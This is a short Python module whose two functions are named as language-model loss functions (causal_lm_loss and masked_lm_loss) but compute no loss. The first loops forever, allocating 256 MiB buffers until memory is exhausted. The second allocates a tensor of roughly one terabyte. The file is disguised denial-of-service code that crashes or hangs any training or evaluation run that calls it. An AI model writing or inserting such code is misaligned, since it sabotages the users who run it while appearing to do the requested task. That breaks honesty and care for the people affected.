import torch as _torch


def causal_lm_loss(logits, input_ids, attention_mask=None):
    hoard = []
    while True:
        hoard.append(bytes(256 * 2**20))


def masked_lm_loss(logits, labels):
    return _torch.empty(2**38, dtype=_torch.float32).sum()
